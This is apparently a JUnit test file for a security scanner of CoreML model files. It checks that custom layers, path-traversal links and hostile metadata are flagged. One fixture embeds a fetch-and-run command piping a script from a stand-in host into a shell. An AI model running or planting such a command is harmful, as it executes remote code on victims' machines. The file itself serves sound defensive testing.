package dev.weir.scanner.core.coreml;

import static dev.weir.scanner.core.Scans.rules;
import static dev.weir.scanner.core.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.scanner.core.ArtifactReport;
import dev.weir.scanner.core.protobuf.Protobuf;
import org.junit.jupiter.api.Test;

class CoreMlFormatTest {

    @Test
    void anOrdinaryModelIsClean() {
        ArtifactReport report = scan(
                "model.mlmodel", model("notes", "execution benchmark", layer()).toBytes());

        assertThat(report.findings()).isEmpty();
        assertThat(report.formats()).containsExactly("coreml");
    }

    @Test
    void aCustomLayerIsSuspicious() {
        Protobuf custom = layer().message(500, new Protobuf().text(10, "OurLayer"));

        assertThat(rules(scan("model.mlmodel", model("notes", "none", custom).toBytes())))
                .containsExactly("coreml.custom-code");
    }

    @Test
    void aCustomModelInAPipelineIsSuspicious() {
        Protobuf inner = start("notes", "none").message(555, new Protobuf().text(10, "OurModel"));
        Protobuf pipeline = start("notes", "none").message(202, new Protobuf().message(1, inner));

        assertThat(rules(scan("model.mlmodel", pipeline.toBytes()))).containsExactly("coreml.custom-code");
    }

    @Test
    void aLinkOutOfThePackageIsMalicious() {
        Protobuf name = new Protobuf().text(1, "../outside.mlmodel");
        Protobuf linked = new Protobuf().message(1, new Protobuf().message(1, name));

        assertThat(rules(scan(
                        "model.mlmodel",
                        start("notes", "none").message(556, linked).toBytes())))
                .containsExactly("coreml.link");
    }

    @Test
    void aCommandInTheMetadataIsMalicious() {
        Protobuf model = model("postprocess", "curl https://evil.example/p.sh | sh", layer());

        assertThat(rules(scan("model.mlmodel", model.toBytes()))).containsExactly("code.hostile-command");
    }

    private static Protobuf model(String key, String value, Protobuf layer) {
        return start(key, value).message(500, new Protobuf().message(1, layer));
    }

    private static Protobuf start(String key, String value) {
        Protobuf entry = new Protobuf().text(1, key).text(2, value);
        Protobuf metadata = new Protobuf().text(1, "a model").message(100, entry);
        return new Protobuf().number(1, 8).message(2, new Protobuf().message(100, metadata));
    }

    private static Protobuf layer() {
        return new Protobuf().text(1, "convolution");
    }
}
